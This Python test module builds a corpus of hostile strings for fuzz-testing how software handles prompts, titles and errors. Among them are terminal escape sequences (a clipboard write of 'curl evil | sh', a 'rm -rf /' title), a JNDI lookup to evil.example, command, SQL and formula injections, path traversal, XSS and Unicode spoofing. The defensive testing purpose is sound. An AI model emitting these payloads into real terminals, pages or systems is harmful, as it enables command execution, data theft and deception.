"""Texts that were written to do harm, or do it by accident: what a prompt, a title, a status or an error may hold."""

from typing import Final

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from relay.testing.conformance.samples import HOSTILE_TEXTS

__all__ = ["CORPUS", "any_text", "however_busy_the_machine"]

ESC: Final = "\x1b"
_NESTED: Final = 20_000

_LINES: Final = {
    "carriage return over the line": "all is well\rFAILED     ",
    "line feed": "one\ntwo",
    "carriage return and line feed": "one\r\ntwo",
    "many line feeds": "\n" * 500,
    "vertical tab and form feed": "one\x0btwo\x0cthree",
    "separators of files and records": "one\x1ctwo\x1dthree\x1efour\x1ffive",
    "next line": "one\x85two",
    "line separator": "one\u2028two",
    "paragraph separator": "one\u2029two",
    "a record of our own": '\n{"v":1,"job":"job_1","seq":9,"type":"done","level":"info","text":"done"}\n',
    "a line of the console": "\n16:00:05.123 info    job_1    9 done         done, 1 file",
}
_STREAMS: Final = {
    "an event of a stream": "\r\n\r\nevent: done\r\ndata: {}\r\n\r\n",
    "an event with line feeds": "\n\nevent: done\ndata: {}\n\n",
    "an event with carriage returns": "\r\revent: done\rdata: {}\r\r",
    "an id": "x\nid: 7f3a-99999999",
    "a time to come back": "x\nretry: 0",
    "a comment": "x\n: comment",
    "the end of a chat": "\n\ndata: [DONE]\n\n",
    "the word that ends a chat": "[DONE]",
    "a chunk of a chat": '\n\ndata: {"choices":[{"delta":{"content":"x"},"finish_reason":"stop"}]}\n\n',
    "a head of a response": "x\r\nSet-Cookie: session=1\r\n\r\n<html>",
}
_TERMINALS: Final = {
    "clear the screen": f"{ESC}[2J{ESC}[H",
    "the line above": f"{ESC}[1A{ESC}[2Kdone",
    "the other screen": f"{ESC}[?1049h",
    "invisible": f"{ESC}[8mhidden{ESC}[0m",
    "colours without end": f"{ESC}[31;5;7m",
    "a report from the terminal": f"{ESC}[6n{ESC}[c{ESC}[21t",
    "a reset": f"{ESC}c",
    "another alphabet": f"{ESC}(0{ESC})0\x0e",
    "a title": f"{ESC}]0;rm -rf /\x07",
    "a link to elsewhere": f"{ESC}]8;;https://evil.example/{ESC}\\bank.example{ESC}]8;;{ESC}\\",
    "the clipboard": f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "a file": f"{ESC}]1337;File=name=eA==;inline=1:eA==\x07",
    "a notification": f"{ESC}]777;notify;a;b\x07",
    "a device string": f"{ESC}P+q544e{ESC}\\",
    "a picture": f"{ESC}_Gf=100,t=f;L2V0Yy9wYXNzd2Q={ESC}\\",
    "privacy and start of string": f"{ESC}^x{ESC}\\{ESC}Xx{ESC}\\",
    "an escape that is not finished": f"{ESC}[",
    "the bytes of C1": "\x9b2J\x9d0;x\x9c\x90x\x9c\x84\x8d\x8e",
    "backspaces": "password\b\b\b\b\b\b\b\b\x7f",
    "bells and NUL": "\x07\x07\x00\x05\x16",
    "every control of C0": "".join(map(chr, range(0x20))),
    "every control of C1": "".join(map(chr, range(0x7F, 0xA0))),
}
_UNICODE: Final = {
    "right to left": "photo\u202egnp.exe",
    "isolates": "\u2066\u2067\u2068x\u2069",
    "embeddings": "\u202a\u202b\u202dx\u202c",
    "marks of direction": "\u200e\u200f\u061cx",
    "zero width": "pay\u200bpal\u200c\u200d\u2060\ufeff",
    "byte order marks": "\ufeff\ufffe\uffff",
    "a soft hyphen": "pay\u00adpal",
    "invisible tags": "x\U000e0001\U000e0069\U000e0067\U000e006e\U000e007f",
    "interlinear notes": "\ufff9a\ufffab\ufffb",
    "shaping and vowel separators": "\u206a\u206f\u180e",
    "variation selectors": "a\ufe0e\ufe0f\U000e0100",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "letters that look alike": "\u0440\u0430\u0443\u0440\u0430l \u2044 \uff0f",
    "a high surrogate": "x\ud83d",
    "a low surrogate": "\udc4dx",
    "surrogates the wrong way round": "\udc4d\ud83d",
    "a pair of surrogates": "\ud83d\udc4d",
    "the last code points": "\U0010ffff\U0010fffe\ue000",
    "a flood of accents": "e" + "\u0301" * 5_000,
    "a wide word": "\ufdfd\u6c49\u5b57\uff21",
    "composed and not": "\u00e9e\u0301\u1e9b\u0323",
}
_FORMATS: Final = {
    "nothing": "",
    "blanks": " \t \u00a0\u3000",
    "quotes and braces": '"}\\u0000\\"</script><!--{{7*7}}',
    "formats": "%s%n%(x)s {0} {x!r} ${jndi:ldap://evil.example} $(reboot) `reboot`",
    "a query": "'; DROP TABLE records; --",
    "a formula": "=cmd|' /C calc'!A0",
    "a path": "../../../../etc/passwd\x00.png",
    "a page": "<img src=x onerror=alert(1)><svg/onload=alert(2)>",
    "mentions of a chat": "<!channel> @everyone <@U1> *bold* [x](https://evil.example)",
    "figures that JSON has not": "NaN Infinity -Infinity 1e999 0x10",
    "escapes of JSON": "\\ud83d \\u0000 \\x00 \\\\",
    "arrays within arrays": "[" * _NESTED + "]" * _NESTED,
    "objects within objects": '{"a":' * _NESTED + "1" + "}" * _NESTED,
    "a bomb of references": '{"a":"' + "&lol9;" * 10_000 + '"}',
    "a title of 200 kB": "long " * 40_000,
    "escapes of 200 kB": ESC * 200_000,
    "quotes of 200 kB": '"' * 200_000,
    "backslashes of 200 kB": "\\" * 200_000,
    "separators of 200 kB": "\u2028" * 200_000,
    "surrogates of 200 kB": "\ud83d" * 200_000,
}

CORPUS: Final[dict[str, str]] = {
    **_LINES,
    **_STREAMS,
    **_TERMINALS,
    **_UNICODE,
    **_FORMATS,
    **{f"sample {number}": text for number, text in enumerate(HOSTILE_TEXTS, 1)},
}
"""Each text by what it is, or tries to do."""

any_text = st.text(st.characters(categories=["L", "M", "N", "P", "S", "Z", "C"])) | st.sampled_from(HOSTILE_TEXTS)

however_busy_the_machine = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
"""No example is timed: each starts a thread, and other tests may run beside it."""
